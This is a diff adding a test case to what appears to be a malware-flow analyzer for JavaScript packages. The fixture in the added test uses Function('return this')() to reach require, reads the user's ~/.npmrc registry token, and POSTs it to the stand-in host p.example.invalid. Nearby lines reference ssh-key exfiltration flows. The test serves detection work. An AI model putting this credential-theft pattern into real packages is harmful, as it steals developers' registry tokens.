@@ -18,6 +18,13 @@ describe("code run from strings", () => {
     expect(flowSummary(facts)).toEqual(["ssh-key -> http https://p.example.invalid @index.js:1 (import)"]);
   });
 
+  it("Function('return this')() is the global object, unless the built code is strict", async () => {
+    const reach = (body: string): string =>
+      `const g = Function(${JSON.stringify(body)})();\nconst r = g['process'].mainModule.require;\nconst k = r('fs').readFileSync(r('os').homedir() + '/.npmrc');\nr('https').request({ hostname: 'p.example.invalid', method: 'POST' }).end(k);`;
+    expect(flowSummary(await analyze({ "index.js": reach("return this") }))).toEqual(["registry-token -> http https://p.example.invalid @index.js:4 (import)"]);
+    expect(flowSummary(await analyze({ "index.js": reach("'use strict'; return this") }))).toEqual([]);
+  });
+
   it("vm.runInNewContext and setTimeout(string)", async () => {
     const vm = await analyze({ "index.js": `require('vm').runInNewContext(${JSON.stringify(PAYLOAD)}, { require });` });
     expect(vm.flows).toHaveLength(1);
